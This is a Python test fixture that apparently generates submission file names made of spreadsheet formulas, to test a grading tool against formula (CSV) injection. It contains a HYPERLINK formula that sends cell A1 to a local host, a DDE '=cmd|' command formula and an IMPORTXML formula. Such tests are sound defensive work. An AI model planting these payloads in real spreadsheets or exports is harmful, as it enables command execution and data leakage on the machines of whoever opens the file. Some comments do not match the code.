"""Calls the submission and its files like formulas, so that the table in which someone opens the class computes them."""

# makes a folder
from tests.support.hostile_files import ZERO

CALLED = '=HYPERLINK("http://127.0.0.1/?"&A1,"Ada")'


def hand_in(targets):
    names = [
        "=1+1.py",
        "@SUM(A1).py",
        "+1-2.py",
        "-2+3.py",
        "=cmd|' ' C' !A0.py",
        "\uff1d1.py",
        "=IMPORTXML(CONCAT(A1)).ipynb",
    ]
    return {"solution.py": ZERO + "\nraise ValueError('=1+1')\n", **dict.fromkeys(names, "raise ValueError('=1')\n")}
